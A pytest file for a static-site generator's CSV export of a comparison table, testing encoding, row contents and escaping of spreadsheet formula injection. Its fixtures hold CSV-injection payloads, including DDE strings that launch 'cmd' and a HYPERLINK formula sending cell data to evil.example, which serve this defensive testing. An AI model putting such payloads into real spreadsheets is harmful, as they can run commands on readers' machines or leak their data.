"""Issue 17: the compare table as a CSV that legal teams paste into vendor-assessment spreadsheets.

Why: the file must open cleanly in Excel and LibreOffice (UTF-8 with a BOM,
CRLF records, quoting done by the csv module), say exactly what the compare
page and the cards say, and never let tree text start a formula in a cell
(CSV injection: = + - @, a tab or a carriage return). It is built with the site
into site_dir only, linked from the compare page; the offline zip is checked in
tests/browser/test_compare_csv_offline.py.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from treesite import build_site
from treesite.comparecsv import FORMULA_STARTS, SILENT, compare_csv, header, safe_cell
from treesite.render import COMPARE_CSV, Renderer
from treesite.text import plain

from tests.helpers import REPO
from tests.injection import write_tree

SITE_URL = "https://example.invalid/copilot-data-faq/"
HOSTILE_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_ANSWER = '=HYPERLINK("https://evil.example/?"&A1,"Click"), then, a comma'
HOSTILE_SOURCE = "+1+cmd|' /C calc'!A0"
HOSTILE_AXIS = "-Deployment"


def read(data: bytes) -> list[list[str]]:
    """The file as a spreadsheet reads it: BOM, UTF-8, csv module."""
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, or Excel reads it as Windows-1252"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.fixture(scope="module")
def real() -> tuple[Renderer, bytes]:
    build = build_site(REPO / "decision_tree", SITE_URL)
    return Renderer(build.loaded, SITE_URL), build.built_files[COMPARE_CSV]


def test_header_names_the_four_questions(real: tuple[Renderer, bytes]) -> None:
    renderer, data = real
    table = read(data)
    labels = [q.label for q in renderer.tree.site.glance]
    assert labels == ["Training", "Where it is processed", "Who can see it", "How long it is kept"]
    columns = ["answer", "sources disagree", "disagreement", "key quote", "source", "source URL", "link"]
    assert table[0] == ["Answer page", "Path"] + [f"{label}: {c}" for label in labels for c in columns]
    assert table[0] == header(renderer)
    assert all(len(row) == len(table[0]) for row in table), "every row has every column"


def test_records_end_with_crlf(real: tuple[Renderer, bytes]) -> None:
    _, data = real
    text = data.decode("utf-8-sig")
    assert text.endswith("\r\n")
    # Outside quoted cells every line break is CRLF; inside a cell (two quotes of one row) a bare LF is allowed.
    outside = text.split('"')[::2]
    assert all("\n" not in part.replace("\r\n", "") for part in outside)


def test_one_row_per_answer_page_saying_what_the_cards_say(real: tuple[Renderer, bytes]) -> None:
    renderer, data = real
    table = read(data)
    tree = renderer.tree
    answers = [n for n in tree.nodes if not n.is_question]
    rows = table[1:]
    assert sorted(r[0] for r in rows) == sorted(plain(n.title) for n in answers)
    by_title = {plain(n.title): n for n in answers}
    sources = {s.id: s for s in tree.sources}
    for row in rows:
        node = by_title[row[0]]
        cards = {g.question.id: g for g in renderer.answer_card(node, "compare.md")}
        # every path that leads to the page (tests/unit/test_every_path.py), the path line's first
        routes = renderer.graph.routes(node.id)
        paths = [" > ".join(f"{plain(s.question.axis or s.question.title)}: {plain(s.option.short)}" for s in r) for r in routes]
        assert row[1] == "; or ".join(paths)
        for i, q in enumerate(tree.site.glance):
            answer, flag, disagreement, quotes, titles, urls, link = row[2 + 7 * i : 9 + 7 * i]
            g = cards[q.id]
            assert answer == (f"{SILENT} {plain(g.row.answer)}" if g.row.silent else plain(g.row.answer))
            assert flag == ("yes" if g.conflict else "no")
            assert disagreement == (plain(g.conflict.title) if g.conflict else "")
            assert quotes.split("\n") == [f"\u201c{plain(c.quote)}\u201d" for c in g.row.cites]
            assert titles.split("\n") == [plain(sources[c.source].title) for c in g.row.cites]
            assert urls.split("\n") == [sources[c.source].url for c in g.row.cites]
            assert link == f"{SITE_URL}{node.url}#glance-{q.id}"


def test_the_compare_page_and_the_file_agree(real: tuple[Renderer, bytes]) -> None:
    """The rows come from the compare page's own row builder, in its order."""
    renderer, data = real
    assert [r[0] for r in read(data)[1:]] == [plain(r.node.title) for r in renderer.compare_rows()]
    page = renderer.compare_page()
    assert f'<a href="{COMPARE_CSV}" download>' in page


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1", "'\uff1d1"),
        ("No.", "No."),
        ("", ""),
        ("a = b", "a = b"),
    ],
)
def test_a_cell_never_starts_a_formula(value: str, safe: str) -> None:
    assert safe_cell(value) == safe


def hostile(tree: dict[str, Any]) -> None:
    """Formula-like text wherever the schema lets an editor type it, with quotes and commas the writer must escape."""
    node = next(n for n in tree["nodes"] if n["id"] == "aoai-global")
    node["title"] = HOSTILE_TITLE
    node["glance"]["processing"]["answer"] = HOSTILE_ANSWER
    tree["sources"][0]["title"] = HOSTILE_SOURCE
    question = next(n for n in tree["nodes"] if n["id"] == "aoai")
    question["axis"] = HOSTILE_AXIS


@pytest.fixture(scope="module")
def hostile_csv(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    folder = write_tree(hostile, tmp_path_factory.mktemp("hostile") / "tree")
    build = build_site(folder, SITE_URL)
    assert not build.warnings, build.warnings
    return compare_csv(Renderer(build.loaded, SITE_URL))


def test_hostile_text_reads_back_as_text(hostile_csv: bytes) -> None:
    table = read(hostile_csv)
    cells = [cell for row in table for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), f"cell starts a formula: {cell!r}"
        assert not cell.lstrip(" ").startswith(FORMULA_STARTS), cell
    row = next(r for r in table if r[0].endswith(HOSTILE_TITLE))
    assert row[0] == "'" + HOSTILE_TITLE
    processing = table[0].index("Where it is processed: answer")
    assert row[processing] == "'" + HOSTILE_ANSWER, "quotes and commas survive the round trip"
    assert row[table[0].index("Training: source")] == "'" + HOSTILE_SOURCE
    assert f"{HOSTILE_AXIS}: Global" in row[1] and not row[1].startswith("'"), "a cell that does not start a formula is left as it is"


def test_the_file_is_in_the_built_site_only(built_site: Path) -> None:
    data = (built_site / COMPARE_CSV).read_bytes()
    table = read(data)
    assert len(table) > 1
    assert not (REPO / "docs" / COMPARE_CSV).exists()
    page = (built_site / "compare.html").read_text(encoding="utf-8")
    assert f'<a href="{COMPARE_CSV}" download>' in page
    assert data == build_site(REPO / "decision_tree", SITE_URL).built_files[COMPARE_CSV], "the hook writes the core's bytes"
